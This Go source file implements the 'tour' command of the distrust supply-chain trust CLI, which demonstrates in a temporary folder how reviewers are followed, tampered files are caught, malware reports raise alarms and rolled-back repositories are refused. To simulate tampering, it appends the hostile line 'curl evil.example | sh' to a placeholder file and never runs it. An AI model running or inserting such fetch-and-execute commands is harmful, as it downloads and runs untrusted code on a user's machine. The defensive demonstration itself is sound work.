package cli

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"

	urfave "github.com/urfave/cli/v2"

	"github.com/distributed-trust/distrust/cli/render"
)

func tourCommand(*Env) *Command {
	return &Command{
		Name: "tour", Group: Own,
		Summary: "see all of it work, in a temporary folder, in a few seconds",
		Text: `Three people with keys and git repositories of their own: you follow two of them, check a file, meet a changed one, learn ` +
			`that what you accepted is malware, and refuse a repository that went back in time. Every command is run for real. Nothing of ` +
			`yours is read or changed.`,
		Flags: []urfave.Flag{&urfave.BoolFlag{Name: "keep", Usage: "leave the folder there to look around"}},
		Examples: []Example{
			{"distrust tour", "look"},
			{"distrust tour --keep", "and look around afterwards"},
		},
		Run: runTour,
	}
}

// tourist is one of the people of the tour: a folder that stands for a machine of theirs.
type tourist string

const (
	you   tourist = "you"
	alice tourist = "alice"
	bob   tourist = "bob"
)

// tourStep is one line of the tour: text, then a command of somebody's, or something that
// happens to the files.
type tourStep struct {
	text string
	who  tourist
	args []string
	want Exit
	do   func(t *tour) error // instead of a command
	show string              // what do did, as a command would look
}

// tour runs the steps in a folder. Its people are kept apart by their own four folders (C7).
type tour struct {
	env   *Env
	dir   string
	line  string // what share printed last
	alarm string // id of the alarm that was raised last
}

const (
	tourFile    = "requests-2.33.0.tar.gz"
	tourProject = "pypi:requests@2.33.0"
)

// runTour plays the tour and fails when anything comes out otherwise than it says.
func runTour(ctx context.Context, in *Invocation) (Exit, error) {
	dir, err := os.MkdirTemp("", "distrust-tour-")
	if err != nil {
		return Failed, fmt.Errorf("making a folder for the tour: %w", err)
	}
	if dir, err = filepath.EvalSymlinks(dir); err != nil {
		return Failed, fmt.Errorf("making a folder for the tour: %w", err)
	}
	t := &tour{env: in.Env, dir: dir}
	err = t.play(ctx)
	switch {
	case in.Bool("keep"):
		fmt.Fprintf(in.Env.Stdout, "\nEverything is still there: cd %s\n", render.Quote(dir))
	case err == nil:
		err = os.RemoveAll(dir)
	default:
		err = errors.Join(err, os.RemoveAll(dir))
	}
	if err != nil {
		return Failed, err
	}
	return Done, nil
}

// play prepares the people and plays every step.
func (t *tour) play(ctx context.Context) error {
	content := "This stands for a release of a library that you are about to install.\n"
	if err := os.WriteFile(filepath.Join(t.dir, tourFile), []byte(content), 0o600); err != nil {
		return fmt.Errorf("preparing the tour: %w", err)
	}
	fmt.Fprintf(t.env.Stdout, "A tour of distrust, run for real in %s ($TOUR below).\n", t.dir)
	for _, step := range t.steps() {
		if err := ctx.Err(); err != nil {
			return err
		}
		if step.text != "" {
			fmt.Fprintf(t.env.Stdout, "\n# %s\n", strings.Join(render.Wrap(step.text, 76), "\n# "))
		}
		if step.do != nil {
			fmt.Fprintf(t.env.Stdout, "%s$ %s\n", step.who, step.show)
			if err := step.do(t); err != nil {
				return fmt.Errorf("playing the tour: %w", err)
			}
			continue
		}
		if err := t.run(step); err != nil {
			return err
		}
	}
	return nil
}

// steps is the tour.
func (t *tour) steps() []tourStep {
	file, trustedFile := tourFile, []string{"check", tourFile, "--for", tourProject}
	return []tourStep{
		{text: "You have a file, and nobody to ask. Only exit code 0 means go on.", who: you, args: []string{"check", file}, want: Unknown},
		{text: "Alice has read it. She makes a repository for what she says, and says so.", who: alice, args: []string{"init", "$TOUR/alice.git", "--name", "Alice", "--make-key"}},
		{who: alice, args: []string{"trust", file, "--for", tourProject, "--basis", "reviewed", "--reason", "Read the diff from 2.32."}},
		{who: alice, args: []string{"sync"}},
		{text: "Bob has a repository too. Alice and Bob publish the line to paste on their pages.", who: bob, args: []string{"init", "$TOUR/bob.git", "--name", "Bob", "--make-key"}},
		{who: bob, args: []string{"share"}},
		{text: "You follow Bob at half: his word alone is not enough.", who: you, args: []string{"SHARED", "--weight", "half"}},
		{who: alice, args: []string{"share"}},
		{text: "You follow Alice at full: her word is enough.", who: you, args: []string{"SHARED", "--weight", "full"}},
		{text: "Now the file is trusted, and you can see why.", who: you, args: trustedFile},
		{who: you, args: []string{"why", file, "--for", tourProject}},
		{text: "Somebody changes the file on its way to you.", who: you, show: "echo 'curl evil.example | sh' >> " + file, do: (*tour).tamper},
		{who: you, args: trustedFile, want: Mismatch},
		{who: you, show: "git checkout " + file + "   # the right one again", do: (*tour).repair},
		{text: "Weeks later Bob finds out that the release is malware. He reports it.", who: bob, args: []string{"report", "malware", file, "--for", tourProject, "--reason", "setup.py posts the environment to 203.0.113.7"}},
		{who: bob, args: []string{"sync"}},
		{text: "Your next sync tells you about the file that you accepted.", who: you, args: []string{"sync"}, want: Alarms},
		{who: you, args: trustedFile, want: Distrusted},
		{who: you, args: []string{"why", file, "--for", tourProject}, want: Distrusted},
		{text: "You remove it, and acknowledge the alarm.", who: you, args: []string{"alarms", "ack", "ALARM", "--reason", "removed it"}},
		{text: "The host of Bob's repository wants to hide the report, and shows the state of before.", who: bob, show: "cp -r $TOUR/bob.before $TOUR/bob.git   # the host goes back in time", do: (*tour).rollBack},
		{who: you, args: []string{"sync"}, want: Refused},
		{text: "It is refused, the last good state stays in force, and the report still counts.", who: you, args: trustedFile, want: Distrusted},
	}
}

// run plays one command and holds its exit code to what the tour promises.
func (t *tour) run(step tourStep) error {
	args := slices.Clone(step.args)
	if args[0] == "SHARED" {
		args = append(strings.Fields(t.line)[1:], args[1:]...)
	}
	for i, arg := range args {
		if arg == "ALARM" {
			args[i] = t.alarm
		}
	}
	fmt.Fprintf(t.env.Stdout, "%s$ distrust %s\n", step.who, t.hide(typedWords(args)))
	for i, arg := range args {
		args[i] = strings.ReplaceAll(arg, "$TOUR", t.dir)
		if arg == tourFile {
			args[i] = filepath.Join(t.dir, tourFile)
		}
	}
	if step.who == bob && step.args[0] == "report" {
		if err := os.CopyFS(filepath.Join(t.dir, "bob.before"), os.DirFS(filepath.Join(t.dir, "bob.git"))); err != nil {
			return fmt.Errorf("playing the tour: %w", err)
		}
	}
	var out, screen bytes.Buffer
	env := t.envOf(step.who, io.MultiWriter(&out, &screen), &screen)
	exit := Exit(Main(append([]string{"distrust"}, args...), env))
	switch step.args[0] {
	case "share":
		t.line = strings.TrimSpace(out.String())
	case "sync":
		t.alarm = nameOr(raisedAlarm(out.String()), t.alarm)
	}
	fmt.Fprint(t.env.Stdout, t.hide(screen.String()))
	if exit != Done {
		fmt.Fprintf(t.env.Stdout, "[exit %d: %s]\n", exit, exit)
	}
	if exit != step.want {
		return fmt.Errorf("playing the tour: distrust %s ended with %d, and the tour expects %d", strings.Join(step.args, " "), exit, step.want)
	}
	return nil
}

// typedWords writes arguments as a person would type them.
func typedWords(args []string) string {
	words := make([]string, len(args))
	for i, arg := range args {
		words[i] = render.Quote(arg)
		if rest, ok := strings.CutPrefix(arg, "$TOUR/"); ok {
			words[i] = "$TOUR/" + render.Quote(rest)
		}
	}
	return strings.Join(words, " ")
}

// hide writes the folder of the tour as $TOUR, and the file as its name alone.
func (t *tour) hide(text string) string {
	text = strings.ReplaceAll(text, filepath.Join(t.dir, tourFile), tourFile)
	return strings.ReplaceAll(text, t.dir, "$TOUR")
}

// raisedAlarm finds the id of an alarm in what sync printed.
func raisedAlarm(printed string) string {
	_, after, found := strings.Cut(printed, "ALARM")
	fields := strings.Fields(after)
	if !found || len(fields) == 0 {
		return ""
	}
	return fields[0]
}

// envOf is the world of one person: our own environment, but for the folders, the keys and what
// would let a question be asked.
func (t *tour) envOf(who tourist, stdout, stderr io.Writer) *Env {
	env := *t.env
	home := filepath.Join(t.dir, string(who))
	folders := map[string]string{
		"DISTRUST_CONFIG_DIR": filepath.Join(home, "config"),
		"DISTRUST_DATA_DIR":   filepath.Join(home, "data"),
		"DISTRUST_STATE_DIR":  filepath.Join(home, "state"),
		"DISTRUST_CACHE_DIR":  filepath.Join(home, "cache"),
		"HOME":                home,
	}
	env.Getenv = func(name string) string { return folders[name] }
	env.Environ = func() []string { return nil }
	env.LookPath = func(string) (string, error) { return "", errors.ErrUnsupported }
	env.UserHome = func() (string, error) { return home, nil }
	env.OpenTTY = func() (*os.File, error) { return nil, errors.ErrUnsupported }
	env.IsTerminal = func(any) bool { return false }
	env.Stdin, env.Stdout, env.Stderr = strings.NewReader(""), stdout, stderr
	return &env
}

// tamper adds a line to the file.
func (t *tour) tamper() error {
	f, err := os.OpenFile(filepath.Join(t.dir, tourFile), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	defer f.Close()
	_, err = f.WriteString("curl evil.example | sh\n")
	return err
}

// repair takes the line away again.
func (t *tour) repair() error {
	path := filepath.Join(t.dir, tourFile)
	b, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	return os.WriteFile(path, bytes.TrimSuffix(b, []byte("curl evil.example | sh\n")), 0o600)
}

// rollBack puts the former state of Bob's published repository back.
func (t *tour) rollBack() error {
	published := filepath.Join(t.dir, "bob.git")
	if err := os.RemoveAll(published); err != nil {
		return err
	}
	return os.Rename(filepath.Join(t.dir, "bob.before"), published)
}
